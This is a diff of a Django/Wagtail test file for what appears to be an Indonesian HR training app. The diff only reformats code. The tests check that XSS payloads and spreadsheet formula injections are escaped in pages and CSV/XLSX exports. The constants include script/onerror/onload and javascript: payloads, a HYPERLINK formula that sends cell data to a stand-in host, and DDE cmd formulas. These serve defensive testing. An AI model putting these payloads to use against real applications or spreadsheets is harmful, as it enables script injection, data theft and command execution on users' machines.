@@ -34,10 +34,18 @@ IMG = "<img src=x onerror=alert(1)>"
 SVG = '"><svg onload=alert(1)>'
 JS_URL = "javascript:alert(1)"
 PAYLOADS = [SCRIPT, IMG, SVG, JS_URL]
-FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip
-COMMENTS = {"comments-TOTAL_FORMS": "0", "comments-INITIAL_FORMS": "0", "comments-MIN_NUM_FORMS": "0",
-            "comments-MAX_NUM_FORMS": "1000"}  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+COMMENTS = {
+    "comments-TOTAL_FORMS": "0",
+    "comments-INITIAL_FORMS": "0",
+    "comments-MIN_NUM_FORMS": "0",
+    "comments-MAX_NUM_FORMS": "1000",
+}
 
 
 class _StartTags(HTMLParser):
@@ -88,8 +96,9 @@ def victim(marked_course):
     """An employee whose every printed field carries markup, in a unit whose name does, with a certificate."""
     unit = WorkUnitFactory.create(code="XSS", name=f"Dinas {SVG} {SCRIPT}")
     Assignment.objects.create(course=marked_course, due_date=timezone.localdate() + timezone.timedelta(days=10))
-    user = UserFactory(first_name=SCRIPT, title_prefix=IMG, title_suffix=SVG, position=f"{JS_URL} {IMG}",
-                       work_unit=unit)  # fmt: skip
+    user = UserFactory(
+        first_name=SCRIPT, title_prefix=IMG, title_suffix=SVG, position=f"{JS_URL} {IMG}", work_unit=unit
+    )
     certificate = certificate_issue(user=user, course=marked_course, score=Decimal("90"))
     return user, certificate
 
@@ -191,8 +200,10 @@ def test_csv_exports_neutralise_formulas(client, formula_people):
 def test_xlsx_exports_write_formulas_as_text(client, formula_people):
     course, _people = formula_people
     superuser_client(client)
-    for url in (reverse("hr_employees") + f"?course={course.pk}&export=xlsx",
-                reverse("certificate_register") + "?export=xlsx"):  # fmt: skip
+    for url in (
+        reverse("hr_employees") + f"?course={course.pk}&export=xlsx",
+        reverse("certificate_register") + "?export=xlsx",
+    ):
         response = client.get(url)
         assert response.status_code == 200
         sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
@@ -230,8 +241,17 @@ def draftail(blocks: list[tuple[str, list[tuple[int, int, str]]]]) -> str:
             key = str(len(entity_map))
             entity_map[key] = {"type": "LINK", "mutability": "MUTABLE", "data": {"url": url}}
             ranges.append({"offset": offset, "length": length, "key": int(key)})
-        content.append({"key": f"b{index}", "type": "unstyled", "depth": 0, "text": text, "inlineStyleRanges": [],
-                        "entityRanges": ranges, "data": {}})  # fmt: skip
+        content.append(
+            {
+                "key": f"b{index}",
+                "type": "unstyled",
+                "depth": 0,
+                "text": text,
+                "inlineStyleRanges": [],
+                "entityRanges": ranges,
+                "data": {},
+            }
+        )
     return json.dumps({"blocks": content, "entityMap": entity_map})
 
 
@@ -239,20 +259,44 @@ def draftail(blocks: list[tuple[str, list[tuple[int, int, str]]]]) -> str:
 def test_lesson_rich_text_saved_in_the_admin_renders_without_executable_markup(client, course, learner):
     lesson = LessonPage.objects.child_of(course).first()
     superuser_client(client)
-    body = draftail([
-        (f"Awas {SCRIPT} dan {IMG} dan {SVG}", []),
-        ("Klik ini, itu, sana atau situ juga", [(5, 3, JS_URL), (10, 3, " JaVaScRiPt:alert(1)"),
-                                                (15, 4, "java\tscript:alert(1)"),
-                                                (25, 5, "data:text/html,<script>alert(1)</script>")]),
-        ("Sumber resmi", [(0, 6, "https://www.bkn.go.id/")]),
-    ])  # fmt: skip
-    form = nested_form_data({"title": "Materi 1", "slug": "materi-1", "body": streamfield([
-        ("paragraph", body),
-        # The converter from HTML (as pasted into the editor) too.
-        ("paragraph", rich_text(f'<p>Tempel: <a href="{JS_URL}">tautan</a></p><script>alert(1)</script>'
+    body = draftail(
+        [
+            (f"Awas {SCRIPT} dan {IMG} dan {SVG}", []),
+            (
+                "Klik ini, itu, sana atau situ juga",
+                [
+                    (5, 3, JS_URL),
+                    (10, 3, " JaVaScRiPt:alert(1)"),
+                    (15, 4, "java\tscript:alert(1)"),
+                    (25, 5, "data:text/html,<script>alert(1)</script>"),
+                ],
+            ),
+            ("Sumber resmi", [(0, 6, "https://www.bkn.go.id/")]),
+        ]
+    )
+    form = (
+        nested_form_data(
+            {
+                "title": "Materi 1",
+                "slug": "materi-1",
+                "body": streamfield(
+                    [
+                        ("paragraph", body),
+                        # The converter from HTML (as pasted into the editor) too.
+                        (
+                            "paragraph",
+                            rich_text(
+                                f'<p>Tempel: <a href="{JS_URL}">tautan</a></p><script>alert(1)</script>'
                                 '<p><img src="x" onerror="alert(1)"/>gambar</p>',
-                                features=["bold", "italic", "link"])),
-    ])}) | COMMENTS  # fmt: skip
+                                features=["bold", "italic", "link"],
+                            ),
+                        ),
+                    ]
+                ),
+            }
+        )
+        | COMMENTS
+    )
     response = client.post(reverse("wagtailadmin_pages:edit", args=(lesson.pk,)), form | {"action-publish": "1"})
     assert response.status_code == 302, response.context and response.context["form"].errors
     lesson.refresh_from_db()
